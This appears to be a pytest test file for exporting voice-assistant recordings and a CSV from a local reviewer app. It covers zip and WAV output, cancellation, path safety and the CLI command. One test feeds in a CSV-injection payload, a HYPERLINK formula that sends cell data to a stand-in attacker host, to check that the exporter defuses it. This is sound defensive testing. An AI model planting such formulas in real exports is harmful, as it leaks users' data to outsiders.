"""Exporting chosen clips (issue 14, item 14): recordings + a CSV into a new folder or zip
inside the chosen folder; WAV on request; cancel leaves nothing; never outside the folder.
The core use case (`Library.export_clips`) and the `reviewer export` command that shares it."""

from __future__ import annotations

import csv
import hashlib
import io
import subprocess
import sys
import wave
import zipfile
from pathlib import Path
from zoneinfo import ZoneInfo

import pytest
from sqlalchemy import update

from reviewer.core.api import ClipExportError, ClipQuery, Decision, Library
from reviewer.core.clip_export import EXPORT_COLUMNS, export_clips
from reviewer.core.progress import CancelToken, Progress
from reviewer.core.store import Clip
from reviewer.testing.alexa_exports import write_history_json_export
from tests.conftest import REPO

SAMPLE = REPO / "resources" / "sample" / "takeout-sample.zip"
SAFE_NAME = set("abcdefghijklmnopqrstuvwxyzABCDEFGHIJKLMNOPQRSTUVWXYZ0123456789-_.")


@pytest.fixture
def two_vendors(library: Library, tmp_path: Path) -> Library:
    alexa = write_history_json_export(tmp_path / "alexa", form="zip", records=6).path
    library.import_exports([alexa, SAMPLE])
    assert library.vendors_of(library.clip_ids()) >= {"amazon", "google"}
    return library


def _read_csv(data: bytes) -> list[dict[str, str]]:
    assert data.startswith(b"\xef\xbb\xbf")  # spreadsheets read UTF-8 right with the BOM
    return list(csv.DictReader(io.StringIO(data[3:].decode("utf-8"), newline="")))


def _sha(data: bytes) -> str:
    return hashlib.sha256(data).hexdigest()


def test_folder_export_has_the_original_recordings_and_a_csv(two_vendors: Library,
                                                             tmp_path: Path) -> None:
    lib = two_vendors
    ids = lib.clip_ids(ClipQuery(vendor="amazon"))[:3] + lib.clip_ids(ClipQuery(vendor="google"))
    out = tmp_path / "chosen"
    out.mkdir()
    (out / "mine.txt").write_text("the user's own file")
    lib.decide(ids[:1], Decision.ACCIDENTAL)  # asks Amazon to delete theirs too (default)
    asked = {ids[0]}
    said: list[Progress] = []
    report = lib.export_clips(ids, out, progress=said.append)
    assert report.path is not None and report.path.parent == out.resolve()
    assert report.path.name.startswith("voice-history-export-") and report.path.is_dir()
    # Only the new folder was added; the user's file is untouched.
    assert sorted(p.name for p in out.iterdir()) == sorted(["mine.txt", report.path.name])
    assert (out / "mine.txt").read_text() == "the user's own file"
    rows = _read_csv((report.path / "clips.csv").read_bytes())
    assert list(rows[0]) == list(EXPORT_COLUMNS)
    assert [int(r["clip_id"]) for r in rows] == ids  # in the order chosen
    assert report.clips == len(ids) == report.recordings + report.without_audio
    assert said[-1].done == said[-1].total == len(ids)
    for row in rows:
        clip = lib.clip(int(row["clip_id"]))
        assert clip is not None
        assert row["vendor"] == clip.vendor
        assert row["vendor_transcript"] == (clip.vendor_transcript or "")
        assert row["ask_vendor_to_delete"] == ("yes" if clip.id in asked else "no")
        if clip.audio_path is None:
            assert row["file"] == ""
            continue
        written = report.path / row["file"]
        assert written.parent == report.path / "recordings"
        assert set(written.name) <= SAFE_NAME
        assert _sha(written.read_bytes()) == clip.audio_sha256 == row["audio_sha256"]
    assert report.recordings >= 3
    assert sorted(p.name for p in (report.path / "recordings").iterdir()) == sorted(
        Path(r["file"]).name for r in rows if r["file"])


def test_csv_has_utc_and_local_time_and_no_formula_cells(library: Library,
                                                         tmp_path: Path) -> None:
    alexa = write_history_json_export(tmp_path / "alexa", form="zip", records=4).path
    library.import_exports([alexa])
    ids = library.clip_ids()
    hostile = '=HYPERLINK("http://evil.example/?"&A1,"click")'
    with library.store.transaction() as s:
        s.execute(update(Clip).where(Clip.id == ids[0]).values(
            device="@SUM(1+1)", vendor_transcript=hostile, transcript="-2+3"))
    clips = [c for c in (library.clip(i) for i in ids) if c is not None]
    report = export_clips(clips, library.audio_path, tmp_path, local_tz=ZoneInfo("Asia/Tokyo"))
    assert report.path is not None
    rows = _read_csv((report.path / "clips.csv").read_bytes())
    first = rows[0]
    assert first["device"] == "'@SUM(1+1)"
    assert first["vendor_transcript"] == "'" + hostile
    assert first["transcript_this_computer"] == "'-2+3"
    for row, clip in zip(rows, clips, strict=True):
        utc = clip.recorded_at.strftime("%Y-%m-%d %H:%M:%S UTC")
        assert row["recorded_at_utc"] == utc
        tokyo = clip.recorded_at.astimezone(ZoneInfo("Asia/Tokyo"))
        assert row["recorded_at_local"] == tokyo.strftime("%Y-%m-%d %H:%M:%S +0900")
    for row in rows:  # no cell a spreadsheet would evaluate
        assert not any(v.startswith(("=", "+", "-", "@")) for v in row.values()), row


def test_zip_with_wav_recordings(two_vendors: Library, tmp_path: Path) -> None:
    lib = two_vendors
    ids = [c.id for c in lib.clips() if c.audio_path][:4]
    report = lib.export_clips(ids, tmp_path, as_zip=True, audio="wav")
    assert report.path is not None and report.path.suffix == ".zip"
    assert [p.name for p in tmp_path.iterdir() if p.name.startswith("voice")] == [
        report.path.name]  # no .part left
    with zipfile.ZipFile(report.path) as z:
        assert z.testzip() is None
        names = z.namelist()
        rows = _read_csv(z.read("clips.csv"))
        assert len(rows) == 4 and not report.problems
        for row in rows:
            assert row["file"].endswith(".wav") and row["file"] in names
            clip = lib.clip(int(row["clip_id"]))
            assert clip is not None and clip.duration_s
            with wave.open(io.BytesIO(z.read(row["file"]))) as w:
                assert (w.getnchannels(), w.getsampwidth(), w.getframerate()) == (1, 2, 16000)
                seconds = w.getnframes() / w.getframerate()
            assert abs(seconds - clip.duration_s) < 0.1, (seconds, clip.duration_s)
        assert all(not n.startswith("/") and ".." not in n for n in names)


def test_a_recording_that_cannot_be_converted_is_exported_as_it_is(library: Library,
                                                                   tmp_path: Path) -> None:
    alexa = write_history_json_export(tmp_path / "alexa", form="zip", records=2).path
    library.import_exports([alexa])
    clip = next(c for c in library.clips() if c.audio_path)
    path = library.audio_path(clip)
    assert path is not None
    path.write_bytes(b"RIFF\x00\x00\x00\x00WAVEnot really audio")
    out = tmp_path / "out"
    out.mkdir()
    report = library.export_clips([clip.id], out, audio="wav")
    assert report.path is not None and report.recordings == 1
    assert len(report.problems) == 1 and "could not be converted to WAV" in report.problems[0]
    (written,) = (report.path / "recordings").iterdir()
    assert written.read_bytes() == path.read_bytes()  # the original bytes, not a conversion
    row = _read_csv((report.path / "clips.csv").read_bytes())[0]
    assert "original file is exported" in row["note"]


def test_cancel_leaves_nothing_and_a_second_export_gets_its_own_name(two_vendors: Library,
                                                                    tmp_path: Path) -> None:
    lib = two_vendors
    ids = lib.clip_ids()
    out = tmp_path / "out"
    out.mkdir()
    for as_zip in (False, True):
        cancel = CancelToken()

        def stop_after_two(p: Progress, cancel: CancelToken = cancel) -> None:
            if p.done == 2:
                cancel.cancel()

        report = lib.export_clips(ids, out, as_zip=as_zip, progress=stop_after_two,
                                  cancel=cancel)
        assert report.cancelled and report.path is None
        assert list(out.iterdir()) == []
    first = lib.export_clips(ids[:1], out)
    second = lib.export_clips(ids[:1], out)
    assert first.path is not None and second.path is not None and first.path != second.path
    assert second.path.name == first.path.name + "-2" or second.path.name.endswith("-2")


def test_refusals(two_vendors: Library, tmp_path: Path) -> None:
    lib = two_vendors
    ids = lib.clip_ids()[:1]
    with pytest.raises(ClipExportError, match="choose the clips"):
        lib.export_clips([], tmp_path)
    with pytest.raises(ClipExportError, match="does not exist"):
        lib.export_clips(ids, tmp_path / "nowhere")
    with pytest.raises(ClipExportError, match="inside the library folder"):
        lib.export_clips(ids, lib.paths.data_dir / "audio")
    deleted = lib.clip_ids()[-1]
    lib.delete([deleted])
    report = lib.export_clips([deleted, ids[0]], tmp_path)  # a deleted clip is left out
    assert report.clips == 1


def _cli(data_dir: Path, *args: str) -> subprocess.CompletedProcess[str]:
    return subprocess.run([sys.executable, "-m", "reviewer", "--data-dir", str(data_dir),
                           *args], capture_output=True, text=True, timeout=300, check=False)


def test_cli_export(tmp_path: Path) -> None:
    lib = tmp_path / "lib"
    alexa = write_history_json_export(tmp_path / "alexa", form="zip", records=5).path
    assert _cli(lib, "import", str(alexa)).returncode == 0
    out = tmp_path / "out"
    out.mkdir()
    done = _cli(lib, "export", "1", "3", "--out", str(out), "--zip", "--wav")
    assert done.returncode == 0, done.stderr
    (made,) = out.iterdir()
    assert f"Exported 2 clip(s) to {made}" in done.stdout
    assert "recordings: 2" in done.stdout
    with zipfile.ZipFile(made) as z:
        rows = _read_csv(z.read("clips.csv"))
        assert [r["clip_id"] for r in rows] == ["1", "3"]
        assert all(r["file"].endswith(".wav") for r in rows)
    done = _cli(lib, "export", "--all", "--vendor", "amazon", "--out", str(out))
    assert done.returncode == 0, done.stderr
    assert "Exported 6 clip(s)" in done.stdout
    for args, said in ((("--out", str(out)), "give the CLIP_IDs to export"),
                       (("1", "--all", "--out", str(out)), "not both"),
                       (("--flagged", "--out", str(out)), "no clip matches"),
                       (("1", "--out", str(tmp_path / "missing")), "does not exist")):
        done = _cli(lib, "export", *args)
        assert done.returncode == 1, (args, done.stdout)
        assert done.stderr.startswith("reviewer: error: ") and said in done.stderr, done.stderr
        assert "Traceback" not in done.stderr
